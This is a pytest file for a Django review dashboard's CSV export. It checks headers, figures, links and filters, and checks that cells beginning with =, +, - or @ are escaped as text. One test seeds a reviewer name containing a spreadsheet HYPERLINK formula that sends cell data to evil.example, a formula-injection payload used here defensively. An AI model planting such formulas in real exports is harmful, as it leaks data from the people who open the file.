"""The CSV export: the dashboard's figures under the same filters, as an attachment, with no
cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import ReviewerFactory
from tests.oversight.worlds import small_world


@pytest.fixture
def world(catalogue):
    return small_world(catalogue)


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_export_is_an_attachment_with_every_figure(client, world):
    client.force_login(world.admin)
    response = client.get(reverse("board-export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="board-')
    table = rows(response)
    assert table[0] == ["figure", "row", "measure", "value", "projects list"]
    cells = {(figure, row, measure): value for figure, row, measure, value, _link in table[1:]}
    assert cells[("Projects by state", "Approved", "projects")] == "5"
    assert cells[("Turnaround", str(world.v1), "median days")] == "25.0"
    assert cells[("Turnaround", str(world.v1), "90th percentile days")] == "37.0"
    assert cells[("Waiting", "Reviews overdue", "reviews")] == "2"
    assert cells[("Waiting", "Unassigned", "projects")] == "1"
    assert cells[("Reviewer load", "Tess Technical", "open assignments")] == "2"
    assert cells[("Must change", "EV-5", "marks")] == "3"
    assert cells[("Audits", "Disclosure", "projects failing in the latest run")] == "2"
    assert cells[("Per month", "2026-03", "decisions")] == "4"
    links = {(figure, row, measure): link for figure, row, measure, _value, link in table[1:]}
    assert links[("Must change", "EV-5", "projects")] == reverse("project-list") + "?must_change=EV-5"
    # A number no project list has the size of carries no link (the marks count verdicts).
    assert links[("Must change", "EV-5", "marks")] == ""
    assert links[("Per month", "2026-03", "decisions")] == ""
    decided = reverse("project-list") + f"?decided_version={world.v1.pk}"
    assert links[("Turnaround", str(world.v1), "decided projects")] == decided
    assert links[("Waiting", "Reviews overdue", "reviews")] == ""
    assert links[("Waiting", "Reviews overdue", "projects")] == reverse("project-list") + "?overdue=1"


def test_the_export_keeps_the_dashboards_filters(client, world):
    client.force_login(world.admin)
    table = rows(client.get(reverse("board-export"), {"version": world.v2.pk, "modality": "MR"}))
    cells = {(figure, row, measure): value for figure, row, measure, value, _link in table[1:]}
    assert cells[("Filters", "Guideline version", "")] == str(world.v2)
    assert cells[("Filters", "Modality", "")] == "MR"
    assert cells[("Projects by state", "Approved", "projects")] == "2"
    assert ("Turnaround", str(world.v1), "median days") not in cells
    link = next(link for figure, row, _m, _v, link in table[1:] if figure == "Projects by state")
    assert link == reverse("project-list") + f"?version={world.v2.pk}&modality=MR&status=draft"


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, world):
    ReviewerFactory(full_name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    ReviewerFactory(full_name="+1 555 0100")
    ReviewerFactory(full_name="@SUM(A1:A9)")
    ReviewerFactory(full_name="-2+3")
    client.force_login(world.admin)
    names = {row[1] for row in rows(client.get(reverse("board-export"))) if row[0] == "Reviewer load"}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
    assert {"'+1 555 0100", "'@SUM(A1:A9)", "'-2+3"} <= names
    assert not any(name[:1] in "=+-@" for name in names)
